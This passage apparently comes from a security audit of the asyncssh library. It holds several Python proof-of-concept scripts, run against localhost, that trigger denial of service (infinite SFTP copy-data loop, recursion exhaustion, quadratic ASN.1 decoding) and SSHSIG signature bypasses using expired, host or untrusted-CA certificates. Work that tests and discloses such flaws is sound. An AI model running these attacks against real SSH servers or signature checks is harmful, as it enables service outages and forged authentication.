            if (kind, value) != ('NAME', b'/'):
                failures.append(f'v{version}: REALPATH with only a path '
                                f'answered with {kind} {value}')

        # For reference: with the control byte present v6 works
        kind, value = await realpath(port, 6, String('/sub/..') + Byte(1))
        print(f'v6 REALPATH(path, NO_CHECK) -> {kind} {value}')
    finally:
        server.close()
        await server.wait_closed()
        shutil.rmtree(root, ignore_errors=True)

    return failures


async def run():
    return await asyncio.wait_for(main(), 60)

failures = asyncio.run(run())

if failures:
    print('VIOLATION: legal v6 REALPATH body rejected as a bad message')
    for failure in failures:
        print('  ' + failure)
    sys.exit(1)

print('ok')
