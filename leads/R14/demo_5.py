"""C14 demo 5: malformed well-known extension data in INIT/VERSION escapes all error handling

SFTPHandler._log_extensions() fully parses the data of the "vendor-id",
"supported", "supported2" and "acl-supported" extensions, whatever the log
level, and both callers invoke it outside their try blocks.

Server (SFTPServerHandler.run): an SFTPv3 FXP_INIT may carry extension
pairs. If one is named "vendor-id" and its data is not a well-formed vendor
structure, PacketDecodeError escapes run(); the connection's task wrapper
then tears down the WHOLE SSH connection (every channel on it), instead of
the SFTP session being refused/ended with SFTPBadMessage as for any other
malformed INIT.

Client (SFTPClientHandler.start): the same data in the server's FXP_VERSION
makes start_sftp_client() raise the internal PacketDecodeError (ValueError)
instead of SFTPBadMessage, which is what every other malformed VERSION
gives.

Expected by the property: malformed input yields an SFTP error for that
exchange without taking more than the session with it.
"""

import asyncio, os, shutil, sys, tempfile

import asyncssh
from asyncssh.constants import FXP_INIT, FXP_VERSION
from asyncssh.packet import Byte, String, UInt32, SSHPacket

HERE = os.path.dirname(os.path.abspath(__file__))
BAD_EXT = String('vendor-id') + String(b'x')


class Srv(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


class FakeSFTP(asyncssh.SSHServerSession):
    """Answers FXP_INIT with a VERSION carrying a malformed vendor-id"""

    def connection_made(self, chan):
        self._chan = chan

    def subsystem_requested(self, subsystem):
        return subsystem == 'sftp'

    def data_received(self, data, datatype):
        payload = Byte(FXP_VERSION) + UInt32(3) + BAD_EXT
        self._chan.write(UInt32(len(payload)) + payload)


class FakeSrv(Srv):
    def session_requested(self):
        return FakeSFTP()


async def server_side(failures):
    root = tempfile.mkdtemp(dir=HERE, prefix='demo5_')
    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_factory=Srv, server_host_keys=[key],
        sftp_factory=lambda chan: asyncssh.SFTPServer(chan,
                                                      chroot=root.encode()))
    port = server.sockets[0].getsockname()[1]

    try:
        conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                      username='u')

        # A second, healthy SFTP session on the same connection
        other = await asyncio.wait_for(conn.start_sftp_client(), 10)
        assert await asyncio.wait_for(other.listdir('/'), 10) is not None

        writer, reader, _ = await conn.open_session(subsystem='sftp',
                                                    encoding=None)

        payload = Byte(FXP_INIT) + UInt32(3) + BAD_EXT
        writer.write(UInt32(len(payload)) + payload)

        try:
            data = await asyncio.wait_for(reader.read(4096), 5)
            print(f'server: bad INIT answered with {data!r} '
                  f'(eof={reader.at_eof()})')
        except asyncio.TimeoutError:
            failures.append('server: no answer to the INIT and the channel '
                            'was left open')
        except asyncssh.Error as exc:
            print(f'server: read on the bad session raised '
                  f'{type(exc).__name__}: {exc}')

        try:
            await asyncio.wait_for(other.listdir('/'), 5)
            print('server: the other SFTP session is still usable (fine)')
        except Exception as exc:
            failures.append(f'server: a malformed vendor-id in INIT on one '
                            f'channel killed the whole connection; the '
                            f'unrelated SFTP session now fails with '
                            f'{type(exc).__name__}: {exc}')

        conn.close()
    finally:
        server.close()
        await server.wait_closed()
        shutil.rmtree(root, ignore_errors=True)


async def client_side(failures):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=FakeSrv,
                                   server_host_keys=[key], encoding=None)
    port = server.sockets[0].getsockname()[1]

    try:
        async with asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                    username='u') as conn:
            try:
                await asyncio.wait_for(conn.start_sftp_client(), 10)
            except asyncssh.SFTPError as exc:
                print(f'client: {type(exc).__name__}: {exc} (fine)')
            except Exception as exc:
                failures.append(
                    f'client: start_sftp_client() raised '
                    f'{type(exc).__module__}.{type(exc).__name__}({exc}), '
                    f'a {type(exc).__mro__[1].__name__}, not an SFTPError')
            else:
                print('client: malformed vendor-id tolerated (fine)')
    finally:
        server.close()
        await server.wait_closed()


async def main():
    failures = []
    await asyncio.wait_for(server_side(failures), 60)
    await asyncio.wait_for(client_side(failures), 60)
    return failures


failures = asyncio.run(main())

if failures:
    print('VIOLATION: malformed extension data is not handled as a bad message')
    for failure in failures:
        print('  ' + failure)
    sys.exit(1)

print('ok')
