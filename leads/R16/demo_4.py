#!/usr/bin/env python
"""demo_4: altered input does not "fail to verify", it crashes the verifier.

decode_ssh_public_key() only converts PacketDecodeError into KeyImportError.
Whatever the key handler's make_public() raises for out-of-range key
parameters (ValueError "Invalid EC key", ValueError "e must be odd",
OverflowError for a negative RSA modulus, UnicodeDecodeError for an SK
application string, ...) escapes as-is, and decode_ssh_certificate() does
not catch OverflowError either.  Callers are written against the documented
contract (KeyImportError / return False):

  A. asyncssh.validate_sshsig() is documented to return bool, but single
     byte edits of the signature blob make it raise ValueError (public key
     bytes and hash-algorithm name).
  B. decode_ssh_certificate() raises OverflowError (not KeyImportError) for
     single byte edits that turn an RSA mpint negative.
  C. On a server, SSHServerConnection._validate_client_public_key() catches
     only KeyImportError, so a client that merely *offers* a malformed key
     blob gets "Uncaught exception" and the whole connection is torn down
     instead of a USERAUTH_FAILURE for that one key (the same client with a
     well-formed but unauthorised key falls through to password auth).

Exit status 0 = behaves as the property says, 1 = violation shown.
"""

import asyncio
import sys

import asyncssh

from asyncssh.packet import String
from asyncssh.public_key import KeyImportError, SSHKeyPair
from asyncssh.public_key import decode_ssh_certificate


def edits(data):
    """Yield (offset, edited copy) for a few single-byte edits per offset"""

    for i, b in enumerate(data):
        for nb in sorted({b ^ 0x01, b ^ 0x80, 0x00, 0xff} - {b}):
            yield i, data[:i] + bytes([nb]) + data[i+1:]


def part_a():
    """Single-byte edits of a raw SSHSIG blob"""

    key = asyncssh.generate_private_key('ecdsa-sha2-nistp256')
    pub = key.export_public_key().decode().strip()
    signers = asyncssh.import_allowed_signers(f'alice {pub}\n')

    msg = b'message'
    sig = asyncssh.create_sshsig(key, msg, raw=True)

    assert asyncssh.validate_sshsig(msg, sig, 'alice', signers) is True

    accepted = 0
    raised = {}

    for i, sig2 in edits(sig):
        try:
            if asyncssh.validate_sshsig(msg, sig2, 'alice', signers):
                accepted += 1
        except Exception as exc: # pylint: disable=broad-except
            raised.setdefault(type(exc).__name__, []).append((i, str(exc)))

    print(f'A. SSHSIG blob, {len(sig)} bytes: edits accepted = {accepted}')

    for what, hits in raised.items():
        msgs = sorted({m[:14] for _, m in hits})
        print(f'   validate_sshsig RAISED {what} for {len(hits)} edits at '
              f'offsets {hits[0][0]}..{hits[-1][0]}: {msgs}')

    return accepted + len(raised)


def part_b():
    """Single-byte edits of an OpenSSH certificate"""

    ca_key = asyncssh.generate_private_key('ssh-rsa', key_size=2048)
    user_key = asyncssh.generate_private_key('ssh-ed25519')
    cert = ca_key.generate_user_certificate(user_key, 'id',
                                            principals=['alice'])
    data = cert.public_data

    accepted = 0
    raised = {}

    for i, data2 in edits(data):
        try:
            decode_ssh_certificate(data2)
            accepted += 1
        except KeyImportError:
            pass
        except Exception as exc: # pylint: disable=broad-except
            raised.setdefault(f'{type(exc).__name__}: {exc}', []).append(i)

    print(f'B. certificate, {len(data)} bytes: edits accepted = {accepted}')

    for what, offs in raised.items():
        print(f'   decode_ssh_certificate RAISED {what!r} instead of '
              f'KeyImportError for {len(offs)} edits (offsets {offs})')

    return accepted + len(raised)


class _OfferedKey(SSHKeyPair):
    """A client "key pair" which just offers a given public key blob"""

    def __init__(self, alg, blob):
        super().__init__(alg, alg, (alg,), (alg,), blob, None)

    def sign(self, data):
        return String(self.sig_algorithm) + String(64 * b'x')


class _Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return True

    def public_key_auth_supported(self):
        return True

    def validate_public_key(self, username, key):
        return False

    def password_auth_supported(self):
        return True

    def validate_password(self, username, password):
        return password == 'pw'


async def part_c():
    """Offer a malformed key, then a good password, to a real server"""

    host_key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=_Server,
                                   server_host_keys=[host_key])
    port = server.sockets[0].getsockname()[1]

    alg = b'ecdsa-sha2-nistp256'

    good = asyncssh.generate_private_key('ecdsa-sha2-nistp256').public_data

    # Same blob with one byte of the EC point changed -> not on the curve
    bad = good[:-1] + bytes([good[-1] ^ 1])

    failures = 0

    for label, blob in (('well-formed unauthorised key', good),
                        ('same key with last byte edited', bad)):
        try:
            conn = await asyncio.wait_for(
                asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                 username='u', password='pw',
                                 client_keys=[_OfferedKey(alg, blob)],
                                 preferred_auth='publickey,password'), 15)
        except asyncio.TimeoutError:
            print(f'C. {label}: HANG')
            failures += 1
        except (OSError, asyncssh.Error) as exc:
            print(f'C. {label}: connection FAILED: '
                  f'{type(exc).__name__}: {exc}')
            failures += 1
        else:
            print(f'C. {label}: key refused, password auth then succeeded')
            conn.close()
            await asyncio.wait_for(conn.wait_closed(), 15)

    server.close()
    await asyncio.wait_for(server.wait_closed(), 15)

    return failures


def main():
    bad = part_a()
    bad += part_b()
    bad += asyncio.run(part_c())

    if bad:
        print('VIOLATION: altered keys/signatures crash the verifier with '
              'undocumented exceptions instead of being reported as invalid')
        return 1

    print('every altered input was reported as invalid')
    return 0


if __name__ == '__main__':
    sys.exit(main())
