#!/usr/bin/env python
"""demo_3: every certificate check is skipped in validate_sshsig() when the
certificate's subject key also appears as a plain key in allowed_signers.

validate_sshsig() first asks allowed_signers.validate(cert.key, ...) -- i.e.
it compares the *subject key inside the certificate* with the plain-key
entries.  If that matches, `result` is already True and the block that calls
cert.validate() (validity window, principal list) and that requires the CA
to be a listed cert-authority is never reached.  So a signature whose signer
blob is

  * an expired certificate,
  * a certificate that is not valid yet,
  * a certificate that lists only some other principal, or
  * a certificate issued by a CA nobody trusts

is accepted.  ssh-keygen -Y verify does not do this: sshkey_equal() of a
plain key and a certificate key is false, so a certificate signer can only
be authorised through a cert-authority line and is always checked.

Property: a certificate is accepted only if the current time lies in its
validity window and the principal is listed (or it lists none).

Exit status 0 = behaves as the property says, 1 = violation shown.
"""

import sys
import time

import asyncssh


def main():
    now = int(time.time())

    key = asyncssh.generate_private_key('ssh-ed25519')
    pub = key.export_public_key().decode().strip()

    ca_key = asyncssh.generate_private_key('ssh-ed25519')
    ca_pub = ca_key.export_public_key().decode().strip()

    rogue_ca = asyncssh.generate_private_key('ssh-ed25519')

    certs = {
        'expired certificate':
            ca_key.generate_user_certificate(
                key, 'id', principals=['alice'],
                valid_after=now - 7200, valid_before=now - 3600),
        'not-yet-valid certificate':
            ca_key.generate_user_certificate(
                key, 'id', principals=['alice'],
                valid_after=now + 3600, valid_before=now + 7200),
        'certificate listing only principal "bob"':
            ca_key.generate_user_certificate(
                key, 'id', principals=['bob']),
        'certificate from an unlisted CA':
            rogue_ca.generate_user_certificate(
                key, 'id', principals=['alice']),
    }

    msg = b'some signed document'

    # Control: with only the CA listed, all four are (correctly) refused
    ca_only = f'alice cert-authority {ca_pub}\n'.encode()

    # Same CA line plus alice's plain key
    both = ca_only + f'alice {pub}\n'.encode()

    bad = 0

    for label, cert in certs.items():
        sig = asyncssh.create_sshsig((key, cert), msg)

        r_ca = asyncssh.validate_sshsig(msg, sig, 'alice', ca_only)
        r_both = asyncssh.validate_sshsig(msg, sig, 'alice', both)

        print(f'{label}:')
        print(f'    allowed_signers = CA line only          -> {r_ca}')
        print(f'    allowed_signers = CA line + plain key   -> {r_both}')

        if r_ca:
            print('    unexpected: control case accepted')
            bad += 1

        if r_both:
            bad += 1

    if bad:
        print(f'VIOLATION: {bad} signature(s) whose signer is an invalid '
              'certificate were accepted; cert.validate() and the CA check '
              'are never run when the subject key matches a plain entry')
        return 1

    print('all invalid certificates rejected')
    return 0


if __name__ == '__main__':
    sys.exit(main())
