#!/usr/bin/env python
"""demo_1: restrictions in an allowed-signers line are silently dropped when
the option name is not spelled exactly as asyncssh expects.

An allowed-signers line such as

    alice Namespaces="git" ssh-ed25519 AAAA...

restricts alice's key to the "git" namespace for ssh-keygen (option names
are matched case-insensitively there, and an unknown option makes ssh-keygen
reject the whole line).  asyncssh's SSHAllowedSignersEntry stores any option
it has no handler for in self.options and never looks at it again, so the
line authorises the key for EVERY namespace and for all time.

Expected (property): the signature for namespace "file" is not accepted by a
line that restricts the signer to another namespace / to a time window that
is over -- either the restriction is enforced or the line is refused.

Exit status 0 = behaves as the property says, 1 = violation shown.
"""

import sys

import asyncssh


def check(label, line, msg, sig, principal):
    """Return True if this allowed-signers line was handled safely"""

    try:
        signers = asyncssh.import_allowed_signers(line)
    except ValueError as exc:
        print(f'ok   {label}: line refused at load time ({exc})')
        return True

    try:
        result = asyncssh.validate_sshsig(msg, sig, principal, signers)
    except ValueError as exc:
        print(f'ok   {label}: validation refused ({exc})')
        return True

    if result:
        print(f'BAD  {label}: signature ACCEPTED, restriction was ignored')
        print(f'       line: {line.strip()[:70]}...')
        return False

    print(f'ok   {label}: signature rejected')
    return True


def main():
    key = asyncssh.generate_private_key('ssh-ed25519')
    pub = key.export_public_key().decode().strip()

    msg = b'payload signed for the "file" namespace'
    sig = asyncssh.create_sshsig(key, msg, namespace='file')

    # Sanity: the correctly spelled options are enforced
    sane = [
        ('control namespaces="git"', f'alice namespaces="git" {pub}\n'),
        ('control valid-before=1970', f'alice valid-before="19700102Z" {pub}\n'),
    ]

    cases = [
        # legal for ssh-keygen (case-insensitive option names)
        ('Namespaces="git" (capitalised)',
         f'alice Namespaces="git" {pub}\n'),
        ('VALID-BEFORE="19700102Z" (upper case)',
         f'alice VALID-BEFORE="19700102Z" {pub}\n'),
        # typos: ssh-keygen refuses the line ("unknown key option")
        ('namespace="git" (singular)',
         f'alice namespace="git" {pub}\n'),
        ('valid_before="19700102Z" (underscore)',
         f'alice valid_before="19700102Z" {pub}\n'),
    ]

    ok = True

    for label, line in sane:
        if not check(label, line, msg, sig, 'alice'):
            print('unexpected: control case failed')
            ok = False

    for label, line in cases:
        ok = check(label, line, msg, sig, 'alice') and ok

    if not ok:
        print('VIOLATION: allowed-signers restrictions were dropped and the '
              'signer was treated as unrestricted')
        return 1

    print('all restrictions honoured')
    return 0


if __name__ == '__main__':
    sys.exit(main())
