#!/usr/bin/env python
"""demo_2: validate_sshsig() accepts an OpenSSH *host* certificate as the
signer of a detached SSHSIG signature.

sshsig.validate_sshsig() calls cert.validate(CERT_TYPE_ANY, principal), and
SSHOpenSSHCertificate.validate() lets CERT_TYPE_ANY match both types.  A CA
listed as "cert-authority" in allowed_signers therefore vouches not only for
the user certificates it issued but for every host certificate as well: the
holder of host "alice"'s host key can produce file signatures that validate
for the identity "alice".  (ssh-keygen -Y verify passes want_host=0 to
sshkey_cert_check_authority() and refuses with "Certificate invalid: not a
user certificate".)

Property: a certificate is accepted only if its type matches the use.

Exit status 0 = behaves as the property says, 1 = violation shown.
"""

import sys

import asyncssh


def main():
    ca_key = asyncssh.generate_private_key('ssh-ed25519')
    ca_pub = ca_key.export_public_key().decode().strip()
    signers = f'* cert-authority {ca_pub}\n'.encode()

    user_key = asyncssh.generate_private_key('ssh-ed25519')
    host_key = asyncssh.generate_private_key('ssh-ed25519')

    user_cert = ca_key.generate_user_certificate(user_key, 'alice-user',
                                                 principals=['alice'])
    host_cert = ca_key.generate_host_certificate(host_key, 'alice-host',
                                                 principals=['alice'])

    msg = b'release-1.0.tar.gz contents'

    user_sig = asyncssh.create_sshsig((user_key, user_cert), msg)
    host_sig = asyncssh.create_sshsig((host_key, host_cert), msg)

    user_ok = asyncssh.validate_sshsig(msg, user_sig, 'alice', signers)
    host_ok = asyncssh.validate_sshsig(msg, host_sig, 'alice', signers)

    print('signature made with USER certificate validates:', user_ok)
    print('signature made with HOST certificate validates:', host_ok)

    if not user_ok:
        print('unexpected: control case (user certificate) was rejected')
        return 1

    if host_ok:
        print('VIOLATION: a host certificate (type 2) was accepted as an '
              'SSHSIG signer; certificate type is not checked')
        return 1

    print('host certificate rejected')
    return 0


if __name__ == '__main__':
    sys.exit(main())
