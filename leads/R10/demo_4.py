#!/usr/bin/env python
"""C10 demo 4: channel requests pipelined right behind a CHANNEL_OPEN_CONFIRMATION
are queued by the client until the session object exists and are then
serviced recursively (SSHChannel._service_next_request -> _report_response ->
_service_next_request ...), two stack frames per queued request.  A server
which sends ~500 or more small requests behind the confirmation makes
create_session()/create_process()/open_session() raise RecursionError in the
*application's* task.  The connection is neither closed nor told about an
error, the half-open channel is never closed and the rest of the queue is
never serviced.

The hostile server is an asyncssh server whose session sends N unknown
channel requests (want_reply=False) from connection_made(), i.e. directly
behind the confirmation; a small transport shim only makes sure that
confirmation and requests go out in a single TCP write, as a hostile peer
would do.

Expected (property C10): the open either works (unknown requests are simply
refused one by one) or fails with ChannelOpenError / the connection is closed
with a DisconnectError.  Exit 0.
Observed: RecursionError out of create_process(), connection still open,
channel leaked.  Exit 1.
"""

import asyncio, os, sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import asyncssh

N = 2000


class Cork:
    """Collect everything written until uncork()"""

    def __init__(self, transport):
        self._transport = transport
        self._buf = []

    def write(self, data):
        self._buf.append(data)

    def uncork(self):
        self._transport.write(b''.join(self._buf))
        return self._transport

    def __getattr__(self, name):
        return getattr(self._transport, name)


class HostileSession(asyncssh.SSHServerSession):
    def connection_made(self, chan):
        conn = chan.get_connection()

        for _ in range(N):
            chan._send_request(b'bogus@example.com')    # want_reply=False

        if isinstance(conn._transport, Cork):
            conn._transport = conn._transport.uncork()

    def shell_requested(self):
        return True

    def exec_requested(self, command):
        return True

    def session_started(self):
        self._chan = None


class HostileServer(asyncssh.SSHServer):
    def connection_made(self, conn):
        self._conn = conn

    def begin_auth(self, username):
        return False

    def session_requested(self):
        # called while CHANNEL_OPEN is processed, before the confirmation
        self._conn._transport = Cork(self._conn._transport)
        return HostileSession()


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')
    srv = await asyncssh.listen('127.0.0.1', 0, server_factory=HostileServer,
                                server_host_keys=[key])
    port = srv.sockets[0].getsockname()[1]

    lost = []

    class Client(asyncssh.SSHClient):
        def connection_lost(self, exc):
            lost.append(exc)

    conn, _ = await asyncio.wait_for(
        asyncssh.create_connection(Client, '127.0.0.1', port,
                                   known_hosts=None, username='u',
                                   client_keys=None), 15)

    problems = []

    try:
        proc = await asyncio.wait_for(conn.create_process('true'), 15)
        print('create_process() succeeded: OK')
        proc.close()
    except asyncssh.ChannelOpenError as exc:
        print('create_process() raised ChannelOpenError (%s): OK' % exc)
    except asyncssh.DisconnectError as exc:
        print('create_process() raised %s: OK' % type(exc).__name__)
    except asyncio.TimeoutError:
        problems.append('create_process() hung')
    except BaseException as exc: # pylint: disable=broad-except
        problems.append('create_process() raised %s: %s' %
                        (type(exc).__name__, exc))

    await asyncio.sleep(0.5)

    chans = list(conn._channels.values())

    if problems:
        problems.append('connection closed: %s, owner told: %s, channels '
                        'still registered on the connection: %d, requests '
                        'left unserviced in the channel queue: %s' %
                        (conn.is_closed(), bool(lost), len(chans),
                         [len(c._request_queue) for c in chans]))

    conn.abort()
    srv.close()

    if problems:
        print('VIOLATION:')
        for p in problems:
            print('  -', p)
        return 1

    print('no violation observed')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(asyncio.wait_for(main(), 120)))
