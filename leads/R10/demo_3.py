#!/usr/bin/env python
"""C10 demo 3: the decoders for untrusted key material do not "return a value
or raise their documented error":

 (a) asn1.der_decode (and therefore import_public_key / import_private_key /
     import_certificate on DER or PEM input) needs time quadratic in the size
     of the input: _Sequence.decode()/_Set.decode() call
     der_decode_partial(content[offset:]) for every element, copying the rest
     of the sequence each time.
 (b) the same decoder recurses once per nesting level, so ~2 KiB of nested
     SEQUENCE headers end in RecursionError (from all three import functions).
 (c) malformed but tiny inputs make the decoders raise exceptions which are
     neither ASN1DecodeError nor KeyImportError and which the callers in the
     library do not expect: ASN1EncodeError and UnicodeDecodeError from
     der_decode/import_*, ValueError / UnicodeDecodeError / OverflowError from
     decode_ssh_public_key (the function used for keys sent by a peer).
 (d) live consequence: a server which sends an ssh-rsa host key blob with a
     negative exponent makes asyncssh.connect() fail with a bare
     OverflowError instead of a DisconnectError such as HostKeyNotVerifiable
     (validate_server_host_key only converts ValueError).

Exit 0 if every input is answered with the documented error in linear time.
"""

import asyncio, base64, os, sys, time, warnings

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
warnings.simplefilter('ignore')

import asyncssh
from asyncssh.asn1 import der_decode, ASN1DecodeError
from asyncssh.packet import String, MPInt, SSHPacket
from asyncssh.public_key import decode_ssh_public_key, KeyImportError

problems = []


def der_hdr(tag, length):
    if length < 0x80:
        return bytes((tag, length))
    lb = length.to_bytes((length.bit_length() + 7) // 8, 'big')
    return bytes((tag, 0x80 | len(lb))) + lb


def check(name, func, data, documented):
    try:
        func(data)
        print('  %-46s returned a value' % name)
    except documented as exc:
        print('  %-46s %s (documented)' % (name, type(exc).__name__))
    except BaseException as exc: # pylint: disable=broad-except
        print('  %-46s %s: %s  <-- not documented' %
              (name, type(exc).__name__, str(exc)[:50]))
        problems.append('%s raised %s on %d bytes of input' %
                        (name, type(exc).__name__, len(data)))


def best_time(func, data):
    best = None
    for _ in range(3):
        t0 = time.perf_counter()
        try:
            func(data)
        except (KeyImportError, ASN1DecodeError):
            pass
        dt = time.perf_counter() - t0
        best = dt if best is None else min(best, dt)
    return best


# (a) quadratic time -------------------------------------------------------
print('(a) time to decode a SEQUENCE of n NULLs')
small_n, big_n = 20000, 160000
small = der_hdr(0x30, 2 * small_n) + b'\x05\x00' * small_n
big = der_hdr(0x30, 2 * big_n) + b'\x05\x00' * big_n

for name, func in (('der_decode', der_decode),
                   ('import_public_key', asyncssh.import_public_key)):
    ts, tb = best_time(func, small), best_time(func, big)
    ratio = tb / ts
    print('  %-18s %7d bytes: %.3fs   %7d bytes: %.3fs   (input x%d, '
          'time x%.1f)' % (name, len(small), ts, len(big), tb,
                           big_n // small_n, ratio))
    if ratio > 2 * (big_n // small_n):
        problems.append('%s: input %dx larger takes %.1fx longer '
                        '(quadratic)' % (name, big_n // small_n, ratio))

# (b) recursion ------------------------------------------------------------
print('(b) 600 nested SEQUENCEs')
nested = b''
for _ in range(600):
    nested = der_hdr(0x30, len(nested)) + nested

check('der_decode(%d bytes)' % len(nested), der_decode, nested,
      ASN1DecodeError)
check('import_public_key(%d bytes)' % len(nested),
      asyncssh.import_public_key, nested, KeyImportError)
check('import_private_key(%d bytes)' % len(nested),
      asyncssh.import_private_key, nested, KeyImportError)
check('import_certificate(%d bytes)' % len(nested),
      asyncssh.import_certificate, nested, KeyImportError)

# (c) undocumented exception types ----------------------------------------
print('(c) small malformed inputs')
bad_bits = b'\x30\x03\x03\x01\x05'     # SEQ { BIT STRING, 5 unused bits, empty }
bad_utf8 = b'\x30\x03\x0c\x01\xff'     # SEQ { UTF8String "\xff" }
pem_utf8 = (b'-----BEGIN PUBLIC KEY-----\n' + base64.b64encode(bad_utf8) +
            b'\n-----END PUBLIC KEY-----\n')
pem_name = (b'-----BEGIN \xff PRIVATE KEY-----\n' + base64.b64encode(b'0\0') +
            b'\n-----END \xff PRIVATE KEY-----\n')

check('der_decode(BIT STRING 03 01 05)', der_decode, bad_bits[2:],
      ASN1DecodeError)
check('der_decode(UTF8String 0c 01 ff)', der_decode, bad_utf8[2:],
      ASN1DecodeError)
check('import_public_key(DER bad BIT STRING)', asyncssh.import_public_key,
      bad_bits, KeyImportError)
check('import_private_key(DER bad BIT STRING)', asyncssh.import_private_key,
      bad_bits, KeyImportError)
check('import_certificate(DER bad BIT STRING)', asyncssh.import_certificate,
      bad_bits, KeyImportError)
check('import_public_key(PEM bad UTF8String)', asyncssh.import_public_key,
      pem_utf8, KeyImportError)
check('import_private_key(PEM type \\xff)', asyncssh.import_private_key,
      pem_name, KeyImportError)

rsa = asyncssh.generate_private_key('ssh-rsa')
pkt = SSHPacket(rsa.public_data)
pkt.get_string()
pkt.get_mpint()
rsa_n = pkt.get_mpint()
neg_e_blob = String('ssh-rsa') + MPInt(-65537) + MPInt(rsa_n)

check('decode_ssh_public_key(ssh-rsa, e=-65537)', decode_ssh_public_key,
      neg_e_blob, KeyImportError)
check('decode_ssh_public_key(ssh-rsa, e=4)', decode_ssh_public_key,
      String('ssh-rsa') + MPInt(4) + MPInt(rsa_n), KeyImportError)
check('decode_ssh_public_key(ecdsa, curve id \\xff)', decode_ssh_public_key,
      String('ecdsa-sha2-nistp256') + String(b'\xff') +
      String(b'\x04' + bytes(64)), KeyImportError)
check('decode_ssh_public_key(ecdsa, point not on curve)',
      decode_ssh_public_key,
      String('ecdsa-sha2-nistp256') + String('nistp256') +
      String(b'\x04' + bytes(64)), KeyImportError)
check('decode_ssh_public_key(ssh-dss, all zero)', decode_ssh_public_key,
      String('ssh-dss') + MPInt(0) * 4, KeyImportError)
check('decode_ssh_public_key(sk-ssh-ed25519, 3 byte key)',
      decode_ssh_public_key,
      String('sk-ssh-ed25519@openssh.com') + String(b'abc') + String('ssh:'),
      KeyImportError)
check('import_public_key("ssh-rsa <e=-65537>")', asyncssh.import_public_key,
      b'ssh-rsa ' + base64.b64encode(neg_e_blob) + b'\n', KeyImportError)


# (d) live connection ------------------------------------------------------
async def live():
    hostkey = asyncssh.generate_private_key('ssh-rsa')
    keypair = asyncssh.load_keypairs([hostkey])[0]
    keypair.public_data = neg_e_blob        # what the "server" will send

    class Srv(asyncssh.SSHServer):
        def begin_auth(self, username):
            return False

    srv = await asyncssh.listen('127.0.0.1', 0, server_factory=Srv,
                                server_host_keys=[keypair])
    port = srv.sockets[0].getsockname()[1]

    try:
        conn = await asyncio.wait_for(
            asyncssh.connect('127.0.0.1', port, known_hosts=None,
                             username='u', client_keys=None,
                             server_host_key_algs=['rsa-sha2-256']), 15)
        conn.abort()
        print('  connect() succeeded?!')
    except asyncssh.DisconnectError as exc:
        print('  connect() raised %s (documented): %s' %
              (type(exc).__name__, exc))
    except asyncio.TimeoutError:
        print('  connect() hung')
        problems.append('connect() hung on a bad host key')
    except BaseException as exc: # pylint: disable=broad-except
        print('  connect() raised bare %s: %s  <-- not documented' %
              (type(exc).__name__, exc))
        problems.append('connect() to a server with a malformed ssh-rsa '
                        'host key raised %s' % type(exc).__name__)
    finally:
        srv.close()

print('(d) client connecting to a server whose host key has e=-65537')
asyncio.run(asyncio.wait_for(live(), 60))

if problems:
    print('VIOLATION:')
    for p in problems:
        print('  -', p)
    sys.exit(1)

print('no violation observed')
sys.exit(0)
