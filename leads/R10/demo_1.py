#!/usr/bin/env python
"""C10 demo 1: one small SFTP "copy-data" request makes the server spin forever
and blocks its whole event loop (all other connections starve).

The stock SFTP server (asyncssh.SFTPServer, chroot'ed to a scratch directory)
runs in a child process.  Client A uploads a 1-byte file, opens it twice and
sends ONE copy-data request: read-from-offset 0, length 0 ("to end of file"),
write-to-offset 1 of the same file.  Every block the server copies makes the
source longer, SFTPServerHandler._process_copy_data() never reaches EOF, and
since SFTPServer.read()/write() are plain synchronous calls the loop in that
coroutine never yields to the event loop.

Expected (property C10): the request is answered (or refused) after bounded
work and the server keeps serving other peers.  Exit 0 in that case.
Observed: no reply, a second client cannot even get an SSH banner, the file
keeps growing.  Exit 1.
"""

import asyncio, os, shutil, subprocess, sys, time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.join(HERE, 'demo_1_root')
PORTFILE = os.path.join(HERE, 'demo_1_port')

sys.path.insert(0, HERE)
import asyncssh


async def server_main():
    key = asyncssh.generate_private_key('ssh-ed25519')

    class Srv(asyncssh.SSHServer):
        def begin_auth(self, username):
            return False            # no auth needed

    def sftp_factory(chan):
        return asyncssh.SFTPServer(chan, chroot=ROOT)

    srv = await asyncssh.listen('127.0.0.1', 0, server_factory=Srv,
                                server_host_keys=[key],
                                sftp_factory=sftp_factory)
    with open(PORTFILE + '.tmp', 'w') as f:
        f.write(str(srv.sockets[0].getsockname()[1]))
    os.rename(PORTFILE + '.tmp', PORTFILE)
    await asyncio.sleep(120)


async def client_main(port):
    problems = []

    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, known_hosts=None, username='a',
                         client_keys=None), 10)
    sftp = await asyncio.wait_for(conn.start_sftp_client(), 10)

    async with sftp.open('f', 'wb') as f:
        await f.write(b'x')

    src = await sftp.open('f', 'rb')
    dst = await sftp.open('f', 'r+b')

    size0 = os.path.getsize(os.path.join(ROOT, 'f'))

    # One request of about 60 bytes: copy-data(src, offset 0, length 0 = to
    # EOF, dst, offset 1)
    req = asyncio.ensure_future(sftp.remote_copy(src, dst, 0, 0, 1))

    try:
        await asyncio.wait_for(asyncio.shield(req), 4)
        print('copy-data was answered: OK')
    except asyncio.TimeoutError:
        problems.append('copy-data request got no reply within 4s')
    except asyncssh.SFTPError as exc:
        print('copy-data was refused (%s): OK' % exc)

    # Is the server still serving anybody else?
    t0 = time.time()
    try:
        conn2 = await asyncio.wait_for(
            asyncssh.connect('127.0.0.1', port, known_hosts=None,
                             username='b', client_keys=None), 5)
        print('second client connected in %.2fs: OK' % (time.time() - t0))
        conn2.abort()
    except (asyncio.TimeoutError, OSError, asyncssh.Error) as exc:
        problems.append('second client could not connect within 5s (%s): '
